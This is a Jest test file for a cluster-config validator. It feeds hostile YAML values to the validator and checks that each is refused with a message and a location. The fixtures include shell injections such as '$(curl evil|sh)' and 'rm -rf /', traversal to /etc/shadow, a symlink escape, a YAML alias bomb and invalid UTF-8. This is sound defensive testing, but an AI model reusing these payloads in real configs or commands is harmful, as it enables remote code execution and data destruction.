// Hostile cluster files, as someone with write access to the file (a pull request) would write them:
// each is refused at validate time by the rule of its field's kind, with the message and the
// file:line:column of the value, in well under a second, before anything is read or sent.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { loadClusterFile, MAX_FILE_BYTES } from '../../../src/core/config/load.js'
import { BASE_K3S, BASE_TALOS, withLine } from './base.js'

let root: string
let wd: string
beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'hostile-'))
  wd = join(root, 'repo', 'deploy')
  await mkdir(join(wd, 'values'), { recursive: true })
  await writeFile(join(wd, 'armbian.img'), 'image')
  await writeFile(join(wd, 'values', 'metallb.yaml'), 'a: 1\n')
  await writeFile(join(root, 'secret.yaml'), 'token: x\n')
  await symlink(join(root, 'secret.yaml'), join(wd, 'values', 'link.yaml'))
})
afterAll(async () => rm(root, { recursive: true, force: true }))

interface Case {
  name: string
  text: string
  code: string
  path: string
  message: string | RegExp
  /** The text the location must point at: its first occurrence (after `after`, when given). */
  at: string
  after?: string
  severity?: 'error' | 'warning'
}

const W1 = '  - { node: 2, ip: 10.10.88.74, hostname: w1, has_nvme: true }'
const NPU = (inner: string): string => BASE_K3S + `npu_config: { deploy_rkllama: true, ${inner} }\n`
const worker = (extra: string): string =>
  withLine(BASE_K3S, W1, `  - { node: 2, ip: 10.10.88.74, hostname: w1, has_nvme: true, ${extra} }`)
const talosWorker = (extra: string): string =>
  withLine(BASE_TALOS, '  - { node: 2', `  - { node: 2, ip: 10.10.88.74, hostname: w1, ${extra} }`)

const cases: Case[] = [
  {
    name: 'a model with a command substitution',
    text: NPU('model: "$(curl evil|sh)"'),
    code: 'InvalidValue',
    path: 'npu_config.model',
    message: /^npu_config.model "\$\(curl evil\|sh\)" is not accepted: expected a model name of letters/,
    at: 'model:'
  },
  {
    name: 'a quantization with a command substitution',
    text: NPU('model: qwen3-4b, model_quantization: "w8a8$(id)"'),
    code: 'InvalidValue',
    path: 'npu_config.model_quantization',
    message: /^npu_config.model_quantization "w8a8\$\(id\)" is not accepted: expected a quantization/,
    at: 'model_quantization'
  },
  {
    name: 'an rkllm_version with /../',
    text: NPU('rkllm_version: "1.2.3/../../x"'),
    code: 'InvalidVersion',
    path: 'npu_config.rkllm_version',
    message: /"1\.2\.3\/\.\.\/\.\.\/x" is not accepted: expected a version such as 1\.2\.3/,
    at: 'rkllm_version'
  },
  {
    name: 'an rknn_version with a space and a semicolon',
    text: BASE_K3S + 'rknn_version: "2.3.2; rm -rf /"\n',
    code: 'InvalidVersion',
    path: 'rknn_version',
    message: /expected a version/,
    at: 'rknn_version'
  },
  {
    name: 'a file:// image URL',
    text: withLine(BASE_K3S, 'armbian_image', 'armbian_image: { source: url, url: "file:///etc/passwd" }'),
    code: 'InvalidUrl',
    path: 'armbian_image.url',
    message: 'armbian_image.url "file:///etc/passwd" is not accepted: expected a https or http URL (not file:)',
    at: 'url:'
  },
  {
    name: 'an image URL with credentials',
    text: withLine(
      BASE_K3S,
      'armbian_image',
      'armbian_image: { source: url, url: "https://bob:hunter2@mirror.example/a.img" }'
    ),
    code: 'InvalidUrl',
    path: 'armbian_image.url',
    message: /expected a URL without credentials \(user:password@\)/,
    at: 'url:'
  },
  {
    name: 'a Talos image URL with a newline',
    text: BASE_TALOS + 'image_source: url\nimage_path: "https://mirror.example/a.raw\\n-o /etc/x"\n',
    code: 'InvalidUrl',
    path: 'image_path',
    message: /expected a URL without spaces, quotes, "\$", backslashes, non-ASCII or control characters/,
    at: 'image_path'
  },
  {
    name: 'an image URL whose host is a command substitution',
    text: withLine(
      BASE_K3S,
      'armbian_image',
      'armbian_image: { source: url, url: "https://mirror.example$(reboot)/a.img" }'
    ),
    code: 'InvalidUrl',
    path: 'armbian_image.url',
    message: /not accepted: expected a URL without spaces, quotes, "\$"/,
    at: 'url:'
  },
  {
    name: 'an image URL whose host has a semicolon',
    text: withLine(BASE_K3S, 'armbian_image', 'armbian_image: { source: url, url: "https://a;reboot/a.img" }'),
    code: 'InvalidUrl',
    path: 'armbian_image.url',
    message: /expected a URL whose host is a DNS name or an IP address/,
    at: 'url:'
  },
  {
    name: 'a node IP with a trailing newline',
    text: worker('ip: "10.10.88.99\\n"').replace('ip: 10.10.88.74, ', ''),
    code: 'InvalidIp',
    path: 'workers[0].ip',
    message: '"10.10.88.99\\n" is not a valid IPv4 address',
    at: 'ip: "10.10.88.99'
  },
  {
    name: 'a MetalLB range with a newline',
    text: BASE_K3S.replace(
      'metallb_ip_range: 10.10.88.80-10.10.88.89',
      'metallb_ip_range: "10.10.88.80-\\n10.10.88.89"'
    ),
    code: 'InvalidMetallbRange',
    path: 'metallb_ip_range',
    message: /has an address that is not a valid IPv4 address/,
    at: 'metallb_ip_range'
  },
  {
    name: 'an nvme_mount over the k3s data directory',
    text: worker('nvme_mount: /var/lib/rancher/k3s'),
    code: 'InvalidValue',
    path: 'workers[0].nvme_mount',
    message: /not a system directory of the node/,
    at: 'nvme_mount'
  },
  {
    name: 'an empty control_plane list',
    text: withLine(BASE_K3S, 'control_plane:', 'control_plane: []'),
    code: 'NoControlPlane',
    path: 'control_plane',
    message: 'control_plane lists no node: a cluster needs one (or three for HA)',
    at: 'control_plane'
  },
  {
    name: 'an API endpoint on port 0',
    text: BASE_K3S + 'endpoint: "https://10.10.88.73:0"\n',
    code: 'InvalidEndpoint',
    path: 'endpoint',
    message: /port is from 1 to 65535/,
    at: 'endpoint: "https'
  },
  {
    name: 'ssh.port 99999',
    text: BASE_K3S + 'ssh: { port: 99999 }\n',
    code: 'InvalidPort',
    path: 'ssh.port',
    message: 'ssh.port 99999 is not accepted: expected a TCP port from 1 to 65535',
    at: 'port'
  },
  {
    name: 'ssh.port 0',
    text: BASE_K3S + 'ssh: { port: 0 }\n',
    code: 'InvalidPort',
    path: 'ssh.port',
    message: /expected a TCP port from 1 to 65535/,
    at: 'port'
  },
  {
    name: 'an ssh.user with a shell command',
    text: BASE_K3S + 'ssh: { user: "root;touch /tmp/x" }\n',
    code: 'InvalidValue',
    path: 'ssh.user',
    message: /^ssh.user "root;touch \/tmp\/x" is not accepted: expected a user name/,
    at: 'user'
  },
  {
    name: 'an nvme_mount with spaces',
    text: worker('nvme_mount: "/var/lib/longhorn defaults 0 0"'),
    code: 'InvalidValue',
    path: 'workers[0].nvme_mount',
    message: /expected an absolute path on the node/,
    at: 'nvme_mount'
  },
  {
    name: 'an nvme_mount with a newline (an extra fstab line)',
    text: worker('nvme_mount: "/data\\n/dev/sda1 / ext4 defaults 0 0"'),
    code: 'InvalidValue',
    path: 'workers[0].nvme_mount',
    message: /^nvme_mount "\/data\\n\/dev\/sda1/,
    at: 'nvme_mount'
  },
  {
    name: "an nvme_mount over the node's /etc",
    text: worker('nvme_mount: /etc'),
    code: 'InvalidValue',
    path: 'workers[0].nvme_mount',
    message: /expected a directory of its own, not a system directory of the node/,
    at: 'nvme_mount'
  },
  {
    name: 'the boot eMMC as nvme_device with nvme_format',
    text: worker('nvme_device: /dev/mmcblk0, nvme_format: true'),
    code: 'NvmeIsBootDisk',
    path: 'workers[0].nvme_device',
    message:
      "nvme_device /dev/mmcblk0 is the RK1's boot eMMC/SD, not an NVMe drive; nvme_format: true would erase the system; use /dev/nvme0n1",
    at: 'nvme_device'
  },
  {
    name: 'an nvme_device with ..',
    text: worker('nvme_device: /dev/../etc/passwd'),
    code: 'InvalidValue',
    path: 'workers[0].nvme_device',
    message: /^nvme_device "\/dev\/\.\.\/etc\/passwd" is not accepted: expected a block device path/,
    at: 'nvme_device'
  },
  {
    name: 'an install_disk with an option',
    text: talosWorker('install_disk: "--force /dev/sda"'),
    code: 'InvalidValue',
    path: 'workers[0].install_disk',
    message: /^install_disk "--force \/dev\/sda" is not accepted: expected a block device path/,
    at: 'install_disk'
  },
  {
    name: 'a label key with a quote',
    text: worker('labels: { "tier\\"x": edge }'),
    code: 'InvalidLabel',
    path: 'workers[0].labels.tier"x',
    message: /^label key "tier\\"x" is not accepted: expected a Kubernetes label key/,
    at: '"tier'
  },
  {
    name: 'a label key with a newline',
    text: worker('labels: { "a\\nkind: Secret": x }'),
    code: 'InvalidLabel',
    path: 'workers[0].labels.a\nkind: Secret',
    message: /^label key "a\\nkind: Secret" is not accepted/,
    at: '"a\\n'
  },
  {
    name: 'a label value with a space',
    text: worker('labels: { tier: "edge node" }'),
    code: 'InvalidLabel',
    path: 'workers[0].labels.tier',
    message: /value "edge node" is not accepted: expected a Kubernetes label value/,
    at: 'tier'
  },
  {
    name: 'an Image Factory overlay ../../evil',
    text: BASE_TALOS + 'image_factory: { overlay: ../../evil }\n',
    code: 'InvalidValue',
    path: 'image_factory.overlay',
    message: /^image_factory.overlay "\.\.\/\.\.\/evil" is not accepted: expected an image name/,
    at: 'overlay'
  },
  {
    name: 'an Image Factory extension "a b"',
    text: BASE_TALOS + 'image_factory: { extensions: ["a b"] }\n',
    code: 'InvalidValue',
    path: 'image_factory.extensions[0]',
    message: /^extension "a b" is not accepted: expected an image name/,
    at: '"a b"'
  },
  {
    name: 'an overlay board with a slash',
    text: BASE_TALOS + 'image_factory: { overlay_board: "turingrk1/../x" }\n',
    code: 'InvalidValue',
    path: 'image_factory.overlay_board',
    message: /expected a board name/,
    at: 'overlay_board'
  },
  {
    name: 'longhorn_path ../../../',
    text: BASE_K3S + 'longhorn_path: ../../../\n',
    code: 'InvalidValue',
    path: 'longhorn_path',
    message: /^longhorn_path "\.\.\/\.\.\/\.\.\/" is not accepted: expected an absolute path on the node/,
    at: 'longhorn_path'
  },
  {
    name: 'a values file outside the working directory',
    text: BASE_K3S + 'addons: { values: { metallb: ../../etc/passwd } }\n',
    code: 'FileOutsideWorkingDirectory',
    path: 'addons.values.metallb',
    message: /^values file of metallb "\.\.\/\.\.\/etc\/passwd" is outside the working directory/,
    at: 'metallb:'
  },
  {
    name: 'an absolute values file (/etc/shadow)',
    text: BASE_K3S + 'addons: { values: { metallb: /etc/shadow } }\n',
    code: 'FileOutsideWorkingDirectory',
    path: 'addons.values.metallb',
    message: /"\/etc\/shadow" is outside the working directory/,
    at: 'metallb:'
  },
  {
    name: 'a values file that is a symbolic link leading outside',
    text: BASE_K3S + 'addons: { values: { metallb: values/link.yaml } }\n',
    code: 'FileOutsideWorkingDirectory',
    path: 'addons.values.metallb',
    message: /leads \(through a symbolic link\) to .*secret\.yaml, outside the working directory/,
    at: 'metallb:'
  },
  {
    name: 'a values file that does not exist',
    text: BASE_K3S + 'addons: { values: { metallb: values/nope.yaml } }\n',
    code: 'FileMissing',
    path: 'addons.values.metallb',
    message: /"values\/nope\.yaml" does not exist/,
    at: 'metallb:'
  },
  {
    name: 'a Talos patch /etc/shadow',
    text: BASE_TALOS + 'patches: { all: [/etc/shadow] }\n',
    code: 'FileOutsideWorkingDirectory',
    path: 'patches.all[0]',
    message: /^patch file "\/etc\/shadow" is outside the working directory/,
    at: '/etc/shadow'
  },
  {
    name: 'a node patch ../../x',
    text: talosWorker('patches: [../../x.yaml]'),
    code: 'FileOutsideWorkingDirectory',
    path: 'workers[0].patches[0]',
    message: /^patch file "\.\.\/\.\.\/x\.yaml" is outside/,
    at: '../../x'
  },
  {
    name: 'a local image that leaves the working directory',
    text: withLine(BASE_K3S, 'armbian_image', 'armbian_image: { path: ../../../x.img }'),
    code: 'FileOutsideWorkingDirectory',
    path: 'armbian_image.path',
    message: /leaves the working directory: give an absolute path, or one inside/,
    at: 'path'
  },
  {
    name: 'a local image that is a system file',
    text: BASE_TALOS + 'image_source: local\nimage_path: /etc/shadow\n',
    code: 'NotAnImage',
    path: 'image_path',
    message: 'image_path "/etc/shadow" is not named like a disk image: expected a .img, .img.xz, .raw or .raw.xz file',
    at: 'image_path'
  },
  {
    name: 'a local image that does not exist',
    text: withLine(BASE_K3S, 'armbian_image', 'armbian_image: { path: /nonexistent/a.img }'),
    code: 'FileMissing',
    path: 'armbian_image.path',
    message: 'armbian_image.path "/nonexistent/a.img" does not exist',
    at: 'path'
  },
  {
    name: 'an http:// BMC endpoint',
    text: withLine(BASE_K3S, '  endpoint:', '  endpoint: http://10.10.88.70'),
    code: 'BmcNotHttps',
    path: 'bmc.endpoint',
    message:
      /^"http:\/\/10\.10\.88\.70" is not accepted: the BMC login sends the password, so the endpoint must be https/,
    at: 'endpoint'
  },
  {
    name: 'a BMC endpoint with a path',
    text: withLine(BASE_K3S, '  endpoint:', '  endpoint: https://10.10.88.70/api?x=1'),
    code: 'InvalidEndpoint',
    path: 'bmc.endpoint',
    message: /expected a base URL: https:\/\/<host>\[:port\]/,
    at: 'endpoint'
  },
  {
    name: 'a pinned fingerprint with insecure: true',
    text: withLine(BASE_K3S, '  tls:', `  tls: { fingerprint: "${'ab'.repeat(32)}", insecure: true }`),
    code: 'FingerprintWithInsecure',
    path: 'bmc.tls.insecure',
    message: /would skip the pinned tls.fingerprint/,
    at: 'insecure'
  },
  {
    name: 'insecure: true alone warns',
    text: withLine(BASE_K3S, '  tls:', '  tls: { insecure: true }'),
    code: 'BmcInsecure',
    path: 'bmc.tls.insecure',
    message: /anyone on the path can read the BMC password/,
    at: 'insecure',
    severity: 'warning'
  },
  {
    name: 'a BMC username with a quote',
    text: withLine(BASE_K3S, '  endpoint:', '  endpoint: https://10.10.88.70\n  username: "root\\"}"'),
    code: 'InvalidValue',
    path: 'bmc.username',
    message: /expected a user name of letters/,
    at: 'username'
  },
  {
    name: 'an API endpoint with credentials',
    text: BASE_K3S + 'endpoint: "https://a:b@10.10.88.73:6443"\n',
    code: 'InvalidEndpoint',
    path: 'endpoint',
    message: /without credentials/,
    at: 'endpoint: "https'
  },
  {
    name: 'a board name with a slash',
    text: withLine(
      BASE_K3S,
      'bmc:',
      `boards:\n  - { name: "../a", bmc: { tls: { fingerprint: "${'ab'.repeat(32)}" } } }\nold:`
    ).replace(/old:\n  endpoint: .*\n  tls: .*\n/, ''),
    code: 'InvalidValue',
    path: 'boards[0].name',
    message: /^board name "\.\.\/a" is not accepted/,
    at: 'name: "../a"'
  },
  {
    name: 'a timeout of a year',
    text: BASE_K3S + 'boot_timeout: 31536000\n',
    code: 'InvalidTimeout',
    path: 'boot_timeout',
    message: /more than a day/,
    at: 'boot_timeout'
  },
  {
    name: "a digest pin keyed by a mirror's http URL",
    text: BASE_K3S + `digests: { "http://mirror.example/install.sh": "${'ab'.repeat(32)}" }\n`,
    code: 'InvalidUrl',
    path: 'digests.http://mirror.example/install.sh',
    message:
      'digests key "http://mirror.example/install.sh" is not accepted: expected the upstream https URL of the download',
    at: '"http://mirror'
  },
  {
    name: 'a digest pin that is a command substitution',
    text: BASE_K3S + 'digests: { "https://example.org/install.sh": "$(id)" }\n',
    code: 'InvalidSha256',
    path: 'digests.https://example.org/install.sh',
    message: /"\$\(id\)" is not accepted: expected a SHA-256 digest: 64 hex digits/,
    at: '"https://example.org'
  }
]

function position(text: string, needle: string, after?: string): { line: number; column: number } {
  const from = after ? text.indexOf(after) : 0
  const at = text.indexOf(needle, from)
  if (at < 0) throw new Error(`${needle} is not in the text`)
  const before = text.slice(0, at)
  return { line: before.split('\n').length, column: at - before.lastIndexOf('\n') }
}

async function validate(text: string | Buffer, name = 'cluster.yaml') {
  await writeFile(join(wd, name), text)
  const started = performance.now()
  const result = await loadClusterFile(join(wd, name), { displayPath: name, workingDirectory: wd })
  return { ...result, ms: performance.now() - started }
}

describe('hostile values are refused at their field, with message and location, in under a second', () => {
  it.each(cases)('$name', async (c) => {
    const r = await validate(c.text)
    const issue = r.issues.find((i) => i.code === c.code)
    expect({ issue, all: r.issues.map((i) => `${i.code} ${i.message}`) }).toMatchObject({
      issue: { path: c.path, severity: c.severity ?? 'error' }
    })
    if (typeof c.message === 'string') expect(issue!.message).toBe(c.message)
    else expect(issue!.message).toMatch(c.message)
    expect(issue!.where).toMatchObject({ file: 'cluster.yaml', ...position(c.text, c.at, c.after) })
    if ((c.severity ?? 'error') === 'error') expect(r.cluster).toBeUndefined()
    expect(r.ms).toBeLessThan(1000)
  })

  it('a file outside the working directory is reported together with the other problems of the file', async () => {
    const r = await validate(BASE_K3S + 'ssh: { port: 0 }\naddons: { values: { metallb: /etc/shadow } }\n')
    expect(r.issues.map((i) => i.code).sort()).toEqual(['FileOutsideWorkingDirectory', 'InvalidPort'])
  })

  it('the untouched base files pass (so each failure above is the hostile value)', async () => {
    for (const text of [BASE_K3S, BASE_TALOS]) {
      const r = await validate(text)
      expect(r.issues).toEqual([])
      expect(r.cluster).toBeDefined()
    }
  })
})

describe('hostile files', () => {
  it('a 50 MB file is refused without reading it, at the line that crosses 1 MiB', async () => {
    const line = '# padding padding padding padding padding padding padding padding padding\n'
    const text = BASE_K3S + line.repeat(Math.ceil((50 * 2 ** 20) / line.length))
    const r = await validate(text, 'big.yaml')
    const crossing = BASE_K3S.split('\n').length - 1 + Math.floor((MAX_FILE_BYTES - BASE_K3S.length) / line.length) + 1
    expect(r.issues).toEqual([
      {
        code: 'FileTooLarge',
        path: '(file)',
        severity: 'error',
        message: `the cluster file is ${Buffer.byteLength(text)} bytes; at most 1048576 bytes (1 MiB) are accepted, and this line crosses that limit`,
        where: { file: 'big.yaml', line: crossing, column: expect.any(Number) }
      }
    ])
    expect(r.ms).toBeLessThan(1000)
  })

  it('invalid UTF-8 is refused with its line, not silently replaced', async () => {
    const bytes = Buffer.concat([
      Buffer.from(BASE_K3S),
      Buffer.from('k3s_version: v1.31.3+k3s1'),
      Buffer.from([0xc3, 0x28]),
      Buffer.from('\n')
    ])
    const r = await validate(bytes, 'utf8.yaml')
    expect(r.issues).toEqual([
      {
        code: 'InvalidUtf8',
        path: '(file)',
        severity: 'error',
        message: `byte 0xc3 at offset ${BASE_K3S.length + 25} is not valid UTF-8: the cluster file must be UTF-8 text`,
        where: { file: 'utf8.yaml', line: 12, column: 26 }
      }
    ])
  })

  it('an overlong encoding of "/" is invalid UTF-8 too', async () => {
    const r = await validate(
      Buffer.concat([Buffer.from(BASE_K3S), Buffer.from([0x23, 0xc0, 0xaf, 0x0a])]),
      'overlong.yaml'
    )
    expect(r.issues[0]).toMatchObject({ code: 'InvalidUtf8', where: { line: 12, column: 2 } })
  })

  it('an alias bomb is refused at its first alias', async () => {
    const bomb = [
      'a: &a ["x","x","x","x","x","x","x","x","x"]',
      'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
      'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
      'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
      'e: [*d,*d,*d,*d,*d,*d,*d,*d,*d]'
    ].join('\n')
    const text = BASE_K3S + bomb + '\n'
    const r = await validate(text, 'bomb.yaml')
    expect(r.issues).toEqual([
      {
        code: 'TooManyAliases',
        path: '(file)',
        severity: 'error',
        message: expect.stringMatching(/expand to more than 100 copies.*alias bomb/),
        where: { file: 'bomb.yaml', ...position(text, '*a') }
      }
    ])
    expect(r.ms).toBeLessThan(1000)
  })

  it('nesting deep enough to exhaust a parser is refused with a location', async () => {
    const r = await validate(BASE_K3S + 'x: ' + '['.repeat(100_000) + ']'.repeat(100_000) + '\n', 'deep.yaml')
    expect(r.issues.length).toBeGreaterThan(0)
    expect(r.issues[0]!.where).toMatchObject({ file: 'deep.yaml', line: expect.any(Number) })
    expect(r.cluster).toBeUndefined()
    expect(r.ms).toBeLessThan(1000)
  })
})
